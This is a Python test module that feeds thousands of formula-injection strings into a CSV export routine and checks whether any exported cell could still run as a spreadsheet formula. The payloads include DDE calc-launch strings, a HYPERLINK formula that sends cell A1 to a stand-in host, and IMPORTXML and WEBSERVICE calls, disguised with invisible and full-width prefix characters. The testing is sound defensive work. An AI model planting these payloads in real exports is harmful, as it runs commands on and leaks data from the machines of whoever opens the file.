"""Hostile strings in every column of text of every table that is exported: which cells a spreadsheet may run, and what is lost."""

from __future__ import annotations

import csv
import io
import random
import unicodedata
from dataclasses import dataclass
from functools import cache

from tollbook.core.spreadsheets import as_written
from tollbook.exports.columns import Column, columns_of, has_columns, profiles
from tollbook.exports.writing import write_csv

STRINGS = 10_000
STARTS = "=+-@"
# What stands before a formula and is dropped, skipped or made the same by some spreadsheet, and signs that look like one.
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\x0b",
    "\x1f",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\ufeff",
    "\u00ad",
]
SIGNS = [
    "=",
    "+",
    "-",
    "@",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\ufe66",
    "\ufe62",
    "\ufe63",
    "\ufe6b",
    "\u207c",
    "\u208c",
    "\u207a",
    "\u208a",
]
FORMULAS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"here")', "SUM(A1:A9)*cmd|'/c calc'!A0", 'IMPORTXML("http://x.example",1)',
    "DDE(\"cmd\";\"/C calc\")", "WEBSERVICE(A1)", "1';=2", '1";=2', "1\n=2", "A1,=2", "1\r\n=2", "'=1", "\"=1",
]  # fmt: skip
PROFILES = [profile for profile in profiles() if has_columns(profile)]


@cache
def strings() -> list[str]:
    """Return the strings, the same ones each time: signs behind blanks, formulas, and apostrophes in front."""
    chance = random.Random(7)
    made = [before + sign + formula for before in BEFORE for sign in SIGNS for formula in FORMULAS]
    while len(made) < STRINGS:
        made.append(
            "".join(chance.choice(BEFORE) for _ in range(chance.randint(0, 4)))
            + chance.choice([*SIGNS, "'", "''"])
            + chance.choice(SIGNS)
            + chance.choice(FORMULAS)
        )
    return made[:STRINGS]


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet may take a cell for a formula: what it does not show is gone, and wide signs are plain ones."""
    shown = "".join(
        mark for mark in unicodedata.normalize("NFKC", cell) if not mark.isspace() and unicodedata.category(mark) not in ("Cc", "Cf")
    )
    return shown.startswith(tuple(STARTS)) or cell.startswith(("\t", "\r", "\n"))


@dataclass(frozen=True, slots=True, kw_only=True)
class Written:
    """What came of the strings in one table: rows, cells that run, and strings that don't come back as they were."""

    rows: int
    running: list[str]
    lost: int


def write_strings(profile: str) -> Written:
    """Write every string into a table of a profile, and read it again."""
    columns: list[Column] = list(columns_of(profile))
    hostile = strings()
    output = io.StringIO()
    # Each string stands in two columns, so that every column meets many of them.
    rows = [
        {column.name: text if (nth - at) % len(columns) in (0, 1) else "" for at, column in enumerate(columns)}
        for nth, text in enumerate(hostile)
    ]
    write_csv(columns, rows, output)
    output.seek(0)
    read = list(csv.reader(output))[1:]
    # No character is lost: the apostrophe comes off again.
    again = [as_written(row[nth % len(columns)]) for nth, row in enumerate(read)]
    return Written(
        rows=len(read),
        running=[cell for row in read for cell in row if runs(cell)],
        lost=sum(before != after for before, after in zip(hostile, again, strict=False)),
    )
